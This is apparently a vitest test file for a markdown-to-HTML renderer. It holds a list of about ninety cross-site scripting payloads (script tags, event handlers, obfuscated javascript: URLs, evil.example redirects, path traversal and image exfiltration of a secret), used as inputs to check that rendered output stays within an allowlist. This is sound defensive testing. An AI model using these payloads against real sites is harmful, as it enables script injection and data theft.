import { describe, expect, test } from 'vitest';
import { ANSWERS, createRandom, randomText } from './corpus.ts';
import { renderHtml } from './render-html.tsx';

const TAGS = new Set(
  (
    'a blockquote br button code del div em figcaption figure h3 h4 h5 h6 hr img input label li ol output p pre ' +
    'section span strong table tbody td th thead tr ul'
  ).split(' '),
);
const ATTRIBUTES = new Set(
  (
    'alt aria-label aria-pressed checked class colSpan disabled href loading readOnly referrerPolicy rel scope src ' +
    'start tabindex target title type'
  ).split(' '),
);

interface Element {
  tag: string;
  attributes: Map<string, string>;
}

/** Reads the elements as a browser would; React writes every attribute in double quotes. */
function elementsOf(html: string): Element[] {
  return [...html.matchAll(/<(\/?[^\s>/]+)((?:\s+[^\s=>]+="[^"]*")*)\s*\/?>/g)].map(
    ([, tag = '', list = '']) => ({
      tag,
      attributes: new Map(
        [...list.matchAll(/([^\s=]+)="([^"]*)"/g)].map(([, name = '', value = '']) => [name, value] as const),
      ),
    }),
  );
}

function isHarmless({ tag, attributes }: Element): boolean {
  const href = attributes.get('href') ?? '#';
  const source = attributes.get('src') ?? '/assets/';
  return (
    TAGS.has(tag.replace('/', '')) &&
    attributes.keys().every((name) => ATTRIBUTES.has(name)) &&
    /^(?:https?:\/\/[^/@]|mailto:|\/(?![/\\])|#)/.test(href) &&
    (!href.startsWith('http') || attributes.get('rel') === 'noopener noreferrer nofollow') &&
    /^\/assets\/(?!.*\.\.)/.test(source)
  );
}

/** The elements that should not be there, or all of the HTML if it holds anything that is no element of ours. */
function harmIn(html: string): unknown[] {
  const elements = elementsOf(html);
  if (elements.length !== html.split('<').length - 1) return [html];
  return elements.filter((element) => !isHarmless(element));
}

const HOSTILE: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<details open ontoggle=alert(1)>',
  '<body onload=alert(1)>',
  '<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>',
  '<br onclick=alert(1)>',
  '<br><br/ onclick=alert(1)>',
  '<!-- --><script>alert(1)</script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php echo 1 ?>',
  '<style>*{background:url(javascript:alert(1))}</style>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<object data="data:text/html,x"></object>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x]( javascript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](<java\tscript:alert(1)>)',
  '[x](<\u0001javascript:alert(1)>)',
  '[x](java\u200bscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A;avascript&colon;alert(1))',
  '[x](javascript&#58;alert(1))',
  '[x](java&#9;script:alert(1))',
  '[x](java&#10;script:alert(1))',
  '[x](java&Tab;script&colon;alert(1))',
  '[x](javascript\\:alert(1))',
  '[x](\\j\\avascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](blob:https://a.b/c)',
  '[x](file:///etc/passwd)',
  '[x](//evil.example)',
  '[x](/\\evil.example)',
  '[x](/&#9;/evil.example)',
  '[x](\\/\\/evil.example)',
  '[x](https:evil)',
  '[x](https://good.example\\@evil.example)',
  '[x](https://good.example@evil.example)',
  '[x](http://)',
  '[x](view-source:https://a.b)',
  '[x](https://a.b "onmouseover="alert(1)")',
  '[x](https://a.b \'"onmouseover="alert(1)\')',
  '[x](https://a.b"onmouseover="alert(1))',
  '[x](<https://a.b" onmouseover="alert(1)>)',
  '[x](mailto:"><script>alert(1)</script>)',
  '[x][y]\n\n[y]: javascript:alert(1)',
  '[x][y]\n\n[y]: <javascript:alert(1)> "t"',
  '[y]\n\n[y]: /a "\\"onclick=alert(1)"',
  '![x][y]\n\n[y]: data:image/svg+xml,<svg/onload=alert(1)>',
  '<javascript:alert(1)>',
  '<data:text/html,x>',
  '<https://a.b"onclick="alert(1)>',
  'https://a.b/"onclick="alert(1)',
  'https://a.b/<script>alert(1)</script>',
  'https://a.b@evil.example/',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  '![" onerror="alert(1)](/assets/x.png)',
  '![x](/assets/../api/sign-out)',
  '![x](/assets/%2e%2e/api/sign-out)',
  '![x](/assets/..%2fapi)',
  '![x](/api/sign-out)',
  '![x](https://evil.example/?q=secret)',
  '[![x](https://evil.example/?q=secret)](javascript:alert(1))',
  '![x](/assets/x.png \\"onload=alert(1)")',
  '```"><script>alert(1)</script>\n</code><script>alert(1)</script>\n```',
  '```html\n<script>alert(1)</script>\n```',
  '`<script>alert(1)</script>`',
  '    <script>alert(1)</script>',
  '| <script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |',
  '# <script>alert(1)</script>',
  '> <script>alert(1)</script>',
  '- [x] <script>alert(1)</script>',
  '[<script>alert(1)</script>](https://a.b)',
  '[<img src=x onerror=alert(1)>](https://a.b)',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\\<script>alert(1)\\</script>',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<a<script>alert(1)</script>',
  '**<b onclick=alert(1)>**',
  '{{constructor.constructor("alert(1)")()}}',
  '[a](javascript:alert(1)//https://a.b)',
  '[__proto__][constructor]\n\n[__proto__]: javascript:alert(1)',
];

describe('the check itself', () => {
  test.each([
    '<script>',
    '<p onclick="x">',
    '<a href="javascript:x">',
    '<img src="https://a.b">',
    '<p',
    '<a b=c>',
  ])('finds the harm in %s', (html) => {
    expect(harmIn(html)).not.toEqual([]);
  });
});

describe('hostile texts', () => {
  test('are many', () => {
    expect(new Set(HOSTILE).size).toBe(HOSTILE.length);
    expect(HOSTILE.length).toBeGreaterThanOrEqual(60);
  });

  test.each(HOSTILE)('render harmlessly, whole and at every moment of their arrival: %j', (text) => {
    expect(harmIn(renderHtml(text))).toEqual([]);
    for (let end = 1; end <= text.length; end += 1) {
      expect(harmIn(renderHtml(text.slice(0, end), true))).toEqual([]);
    }
  });

  test('built at random render harmlessly', () => {
    const random = createRandom(5);
    for (let round = 0; round < 300; round += 1) {
      const hostile = HOSTILE[Math.floor(random() * HOSTILE.length)] ?? '';
      expect(harmIn(renderHtml(randomText(random) + hostile + randomText(random)))).toEqual([]);
    }
    for (const answer of ANSWERS) expect(harmIn(renderHtml(answer))).toEqual([]);
  });

  test('nested a hundred levels deep or a hundred thousand markers long render', () => {
    for (const marker of ['> ', '- ', '1. ', '*', '[', '![', '**a ', '[a](', '`', '_a*b ']) {
      const length = marker.length > 1 && !marker.includes('[') ? 20_000 : 100_000;
      expect(harmIn(renderHtml(`${marker.repeat(length / marker.length)}x`))).toEqual([]);
    }
    const steps = Array.from({ length: 120 }, (_, depth) => `${'  '.repeat(depth)}- ${'> '.repeat(depth)}x`);
    expect(harmIn(renderHtml(steps.join('\n')))).toEqual([]);
    expect(harmIn(renderHtml(`${'*a **b '.repeat(100)}x${'** c*'.repeat(100)}`))).toEqual([]);
  });
});
